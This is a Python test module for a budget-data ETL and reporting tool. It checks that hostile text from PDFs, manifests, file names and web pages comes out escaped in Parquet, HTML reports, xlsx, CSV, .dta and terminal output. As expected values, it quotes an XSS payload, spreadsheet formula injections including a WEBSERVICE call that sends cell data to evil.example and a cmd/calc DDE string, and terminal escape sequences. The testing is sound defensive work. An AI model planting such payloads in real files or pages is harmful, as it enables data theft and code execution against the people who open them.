"""Hostile text from PDFs, manifests and file names is shown, never obeyed, at every boundary.

A small generated corpus (tests/hostile_text.py: script tags, `<!--<script>`, formulas, NUL,
terminal escapes, a file name forging a `failed:` line) goes through the real commands —
`juesuan etl --manifest`, `juesuan report`, `juesuan export --all-quality`, `juesuan audit` — one year
of it as saved web pages with active content — and:

- a web page's script, event handlers, javascript: links and style never reach the Parquet as text;

- headless Chromium opens no dialog on any report or audit page, every chart of a report page
  renders (as many as the page's HTML holds: `<!--<script>` in a spec once swallowed the rest of the
  page), no injected element appears, and the payloads read as text;
- no xlsx cell is a formula or a link; no CSV cell starts with = + - @ tab CR; no NUL in a CSV or
  in a .dta text;
- the terminal output of the ETL and the audit holds no ESC or BEL, and the only `failed:` lines
  are the real failures.
"""

from __future__ import annotations

import csv
import os
import re
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import duckdb
import hostile_text as ht
import pytest
from test_report import _CHARTS_JS, _WAIT_JS, _offline_context, _require_chromium

ROOT = Path(__file__).resolve().parent.parent
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-\d+(?:\.\d+)?")   # a negative amount as the export writes it
TERMINAL_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")   # \t and \n are a terminal's own

pytestmark = pytest.mark.slow


@dataclass
class Run:
    raw: Path
    parquet: Path
    reports: Path
    exports: Path
    audit: Path
    etl_output: str
    audit_output: str


def _juesuan(*args: str) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.startswith("JUESUAN_")}
    proc = subprocess.run([sys.executable, "-m", "etl.cli", *args], capture_output=True, text=True, env=env,
                          cwd=ROOT, timeout=1200)
    assert proc.returncode == 0, f"juesuan {args[0]}: exit {proc.returncode}\n{proc.stderr[-3000:]}"
    return proc


@pytest.fixture(scope="module")
def run(tmp_path_factory) -> Run:
    base = tmp_path_factory.mktemp("hostile")
    raw, pq = base / "raw", base / "pq"
    manifest = ht.write_corpus(raw)
    etl = _juesuan("etl", str(raw), "--out", str(pq), "--manifest", str(manifest), "--jobs", "2")
    _juesuan("report", "--parquet", str(pq), "--out", str(base / "reports"))
    _juesuan("export", "--parquet", str(pq), "--out", str(base / "exports"), "--all-quality")
    audit = _juesuan("audit", "--parquet", str(pq), "--out", str(base / "audit"))
    return Run(raw, pq, base / "reports", base / "exports", base / "audit", etl.stdout + etl.stderr,
               audit.stdout + audit.stderr)


def test_the_corpus_carries_every_payload_into_the_parquet(run):
    """The other tests mean something only if the parser read the payloads back unchanged."""
    con = duckdb.connect()
    docs = con.sql(f"SELECT region, department, source_file FROM '{run.parquet}/documents.parquet'").fetchall()
    reasons = {r[0] for r in con.sql(f"SELECT reason FROM '{run.parquet}/budget_execution.parquet'").fetchall()}
    departments = {d[1] for d in docs if d[1]}
    assert {f"广州市天河区{p}" for p in ht.NAME_PAYLOADS.values()} <= departments
    assert set(ht.REASON_PAYLOADS) <= reasons
    assert ht.MANIFEST_REGION in {d[0] for d in docs}
    assert {ht.FORGED_NAME, ht.ESCAPE_COPY_NAME} <= {d[2] for d in docs}
    web = con.sql(f"SELECT department FROM '{run.parquet}/documents.parquet' WHERE source_format = 'html'"
                  ).fetchall()
    assert {f"广州市天河区{p}" for p in ht.NAME_PAYLOADS.values()} == {d[0] for d in web}   # from HTML too


def test_a_web_pages_active_content_never_reaches_the_parquet(run):
    """Only a page's text is read: no string column of any table holds a marker of its script, handlers, links
    or style (the payloads in its text are there, the test above)."""
    con = duckdb.connect()
    found = []
    for path in sorted(run.parquet.glob("*.parquet")):
        columns = con.sql(f"DESCRIBE SELECT * FROM '{path}'").fetchall()
        for name, kind, *_ in columns:
            if kind != "VARCHAR":
                continue
            for marker in ht.WEB_MARKERS:
                n = con.sql(f"SELECT count(*) FROM '{path}' WHERE contains(\"{name}\", ?)", params=[marker]
                            ).fetchall()[0][0]
                found += [f"{path.name}.{name}: {marker}"] * bool(n)
    assert not found, found
    assert b"web-script" in next(run.raw.rglob("*.web.html")).read_bytes()   # the pages did carry it


def test_etl_terminal_output_shows_names_escaped_on_their_own_line(run):
    out = run.etl_output
    assert not TERMINAL_CONTROLS.search(out), repr(TERMINAL_CONTROLS.findall(out)[:5])
    documents = f"{run.parquet}/documents.parquet"
    failed = duckdb.sql(f"SELECT count(*) FROM '{documents}' WHERE status = 'failed'").fetchall()[0][0]
    failed_lines = [ln for ln in out.splitlines() if ln.startswith("failed:")]
    assert len(failed_lines) == failed == 1, failed_lines
    assert failed_lines[0].startswith("failed: forged\\nfailed: 财政局-2022.pdf: tampered\\x1b]0;pwned\\x07\\n.pdf: ")
    assert "OWNED\\x1b]0;pwned-title\\x07财政局.pdf" in out          # the duplicate line names it, escaped
    assert f"manifest: {ht.GHOST_NAME} matches no PDF" in out


def test_a_manifest_with_control_characters_is_refused_with_a_clean_message(run, tmp_path):
    """NUL, line breaks and terminal escapes in a manifest cell: exit 2 naming the line and column, and the
    message itself carries no control character."""
    manifest = ht.write_control_manifest(run.raw, tmp_path / "controls.csv")
    env = {k: v for k, v in os.environ.items() if not k.startswith("JUESUAN_")}
    proc = subprocess.run([sys.executable, "-m", "etl.cli", "etl", str(run.raw), "--out", str(tmp_path / "pq"),
                           "--manifest", str(manifest)], capture_output=True, text=True, env=env, cwd=ROOT,
                          timeout=600)
    out = proc.stdout + proc.stderr
    assert proc.returncode == 2, out[-2000:]
    assert "control character" in out and "column 'region'" in out and ", line " in out
    assert not TERMINAL_CONTROLS.search(out), repr(out[-500:])


def test_audit_terminal_output_has_no_control_characters(run):
    assert run.audit_output.startswith("audit: 7 documents")
    assert not TERMINAL_CONTROLS.search(run.audit_output)


_INJECTED_JS = """() => ({
    bold_x: [...document.querySelectorAll('b')].filter(b => b.innerText.trim() === 'x').length,
    images: document.querySelectorAll('img[onerror]').length,
    text: document.body.innerText})"""


def _open(ctx, path: Path, dialogs: list[str]):
    page = ctx.new_page()
    page.on("dialog", lambda d: (dialogs.append(f"{path.name}: {d.message}"), d.dismiss()))
    page.goto(path.as_uri())
    return page


def test_pages_open_no_dialog_and_render_every_chart(run, tmp_path):
    _require_chromium()
    from playwright.sync_api import sync_playwright

    report_pages = sorted(run.reports.glob("*.html"))
    audit_pages = sorted(run.audit.glob("*.html"))
    notebooks = list((ROOT / "notebooks").glob("[0-9][0-9]_*.py"))
    assert len(report_pages) == len(notebooks) + 1 and len(audit_pages) == 8   # + index; 7 documents + index
    dialogs: list[str] = []
    problems: list[str] = []
    text = ""
    with sync_playwright() as p:
        ctx, external = _offline_context(p, tmp_path)
        for path in report_pages + audit_pages:
            page = _open(ctx, path, dialogs)
            expected = len(re.findall(r'class="juesuan-chart"', path.read_text(encoding="utf-8")))
            charts = page.evaluate(_CHARTS_JS)
            if expected:
                page.wait_for_function(_WAIT_JS, timeout=30_000)
                charts = page.evaluate(_CHARTS_JS)
            if len(charts) != expected or not all(c["rendered"] and c["marks"] > 0 for c in charts):
                problems.append(f"{path.name}: {len(charts)} of {expected} charts, {charts}")
            found = page.evaluate(_INJECTED_JS)
            if found["bold_x"] or found["images"]:
                problems.append(f"{path.name}: injected elements {found['bold_x']} <b>, {found['images']} <img>")
            text += found["text"]
            page.wait_for_timeout(200)      # an onerror handler would fire by now
            page.close()
        ctx.close()
    assert not dialogs, dialogs
    assert not problems, "\n".join(problems)
    assert not external, external
    for name in ht.NAME_PAYLOADS.values():                     # shown as written, not as markup
        assert f"广州市天河区{name}" in text, name
    assert "最常见的原因表述：「<img/src=x/onerror=alert(1)>」" in text      # 04's most frequent reason


def test_xlsx_cells_are_never_formulas_or_links(run):
    import openpyxl

    books = sorted(run.exports.glob("*.xlsx"))
    assert books
    formulas, links, texts = [], [], []
    for book in books:
        wb = openpyxl.load_workbook(book)
        for ws in wb.worksheets:
            links += [f"{book.name}!{h.ref}" for h in ws._hyperlinks]
            for row in ws.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        formulas.append(f"{book.name}!{cell.coordinate}: {cell.value}")
                    if cell.hyperlink is not None:
                        links.append(f"{book.name}!{cell.coordinate}")
                    if isinstance(cell.value, str):
                        texts.append(cell.value)
    assert not formulas, formulas[:5]
    assert not links, links[:5]
    assert '\'=HYPERLINK("http://evil.example/x","点击查看")' in texts   # the payload is there, as text
    assert "'-2+3" in texts


def _csv_cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def test_csv_cells_never_start_a_formula_and_hold_no_nul(run):
    files = sorted(run.exports.glob("*.csv"))
    assert len(files) > 5
    cells = []
    for path in files:
        assert b"\x00" not in path.read_bytes(), path.name
        cells += [(path.name, c) for c in _csv_cells(path)]
    # a negative amount (a signed difference such as budget_difference or item_yoy.change) is a number to a
    # spreadsheet, not a formula: only text starting with a formula character must carry the leading '
    starting = [x for x in cells if x[1].startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(x[1])]
    assert not starting, starting[:5]
    values = {c for _, c in cells}
    assert {"'=WEBSERVICE(\"http://evil.example/?\"&A1)", "'+1+cmd|'/Ccalc'!A0", "'@SUM(1+1)", "'-2+3"} <= values
    assert "'" + ht.MANIFEST_REGION in values                  # the manifest's region, a formula no more


def test_dta_text_holds_no_control_characters(run):
    import pyreadstat

    df, _ = pyreadstat.read_dta(str(run.exports / "department_years.dta"))
    regions = set(df["region"])
    assert ht.MANIFEST_REGION in regions                      # .dta keeps the text as it is
    texts = [v for c in df.columns if df[c].dtype == object for v in df[c] if isinstance(v, str)]
    assert not [v for v in texts if TERMINAL_CONTROLS.search(v)]
